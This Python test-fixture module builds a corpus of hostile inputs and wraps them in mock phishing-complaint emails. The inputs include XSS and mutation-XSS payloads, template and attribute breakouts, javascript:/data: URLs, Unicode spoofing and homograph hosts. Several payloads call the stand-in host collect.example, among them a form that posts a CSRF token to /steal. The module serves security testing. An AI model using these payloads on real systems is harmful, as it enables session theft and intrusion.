"""Text that wants to be more than text: made for these tests, each with what it tries."""

from __future__ import annotations

from email.message import EmailMessage

#: Whatever manages to run sets `window.owned`, opens a dialog, or asks this host for something.
AWAY = "collect.example"
RUN = "window.owned=1;alert(1)"

#: Markup in every shape that a parser may take for a tag of its own.
MARKUP = (
    f"<script>{RUN}</script>",
    f"</title></textarea></style></script><script>{RUN}</script>",
    f"<ScRiPt src=https://{AWAY}/x.js></sCrIpT>",
    f'<img src=x onerror="{RUN}">',
    f"<img src=https://{AWAY}/pixel.gif width=1 height=1>",
    f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    f"<svg><style>@import 'https://{AWAY}/a.css';</style><image href='https://{AWAY}/b.svg'/></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>press</text></a></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title='</style><img src onerror={RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<iframe srcdoc=\"<script>parent.owned=1</script>\"></iframe><object data='https://{AWAY}/o'></object>",
    f"<base href='https://{AWAY}/'><meta http-equiv=refresh content='0;url=https://{AWAY}/'>",
    f"<link rel=stylesheet href=//{AWAY}/s.css><style>body{{background:url(//{AWAY}/bg)}}</style>",
    f"<form action=https://{AWAY}/steal><input name=csrfmiddlewaretoken><button>Sign in again</button></form>",
    f'<details open ontoggle="{RUN}"><summary>x</summary></details><video src=//{AWAY}/v autoplay onerror="{RUN}">',
    f"<p style='position:fixed;inset:0;background:url(https://{AWAY}/css)'>over all</p>",
)
#: Text that leaves an attribute, a script or a template.
BREAKOUT = (
    f'" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f"`-{RUN}-`${{{RUN}}}",
    "{{constructor.constructor('window.owned=1')()}}{% include 'x' %}#{7*7}",
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onerror={RUN} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    f"\\x3csVg/<sVg/oNloAd={RUN}//>\\x3e",
    f"[click](javascript:{RUN}) ![x](https://{AWAY}/md.png) <https://{AWAY}/auto>",
    "\x3c!--[if gte mso 9]\x3e<v:rect/><![endif]-->]]><![CDATA[<script>window.owned=1</script>]]>",
    'hx-get="/desk/next" hx-trigger="load" data-copy=x',
    "<div hx-post='/desk/next' hx-trigger='load'></div><a href='/desk/sign-out' data-key='j'>j</a>",
)
#: What reads differently from what it is: direction, invisible characters, letters of another script.
SPOOF = (
    "invoice\u202efdp.exe",
    "\u2066safe\u2069\u202d\u200elogin\u200f\u061c",
    "pay\u200bpal\u2060.example\ufeff",
    "bank\u115f\u3164\u2800\u034f.example",
    "line\u2028break\u2029and\x0bbell\x07\x1b[31mred",
    "tag\U000e0041\U000e0042smuggled",
)
#: Hosts whose letters are of another script; the second is their name on the wire.
HOMOGRAPHS = (
    ("\u0430pple.example", "xn--pple-43d.example"),
    ("\u0440\u0430\u0443\u0440\u0430l.example", "xn--l-7sba6dbr.example"),
)
URLS = (
    f"javascript:{RUN}",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cub3duZWQ9MTwvc2NyaXB0Pg==",
    f"vbscript:{RUN}",
    f'https://{AWAY}/"onmouseover="{RUN}',
    f"https://user:pass@{AWAY}:8443/<script>{RUN}</script>?a='%22><svg/onload={RUN}>#{RUN}",
    f"//{AWAY}/protocol-relative",
)
EVERYTHING = (*MARKUP, *BREAKOUT, *SPOOF, *(name for name, _wire in HOMOGRAPHS), *URLS)


def mails(target: str) -> list[bytes]:
    """The corpus as complaints about `target`: in text, in HTML, in the headers, and in names of files."""
    found = []
    each = max(1, len(EVERYTHING) // 6)
    for number in range(6):
        part = EVERYTHING[number * each : (number + 1) * each] if number < 5 else EVERYTHING[5 * each :]
        mail = EmailMessage()
        label = header(part[0])
        mail["From"] = f'"{header(part[1])}" <sender{number}@mail.example>'
        mail["To"] = "abuse@nube-norte.example"
        mail["Subject"] = f"Phishing: {label} {header(part[2])}"
        mail["Message-ID"] = f"<hostile-{number}@mail.example>"
        body = "\n".join(part)
        mail.set_content(f"This phishing page imitates our bank:\n\n{target}\n\n{body}\n")
        mail.add_alternative(f"<html><body><p>Phishing at {target}</p>{body}</body></html>", subtype="html")
        mail.add_attachment(b"<svg xmlns='http://www.w3.org/2000/svg' onload='window.owned=1'/>", maintype="image",
                            subtype="svg+xml", filename=header(part[-1])[:120])  # fmt: skip
        mail.add_attachment(b"<script>window.owned=1</script>", maintype="text", subtype="html", filename="a.html")
        found.append(mail.as_bytes())
    return found


def header(text: str) -> str:
    """`text` as a header field can carry it: without line breaks."""
    return " ".join(text.replace('"', "'").replace("\\", "").split())
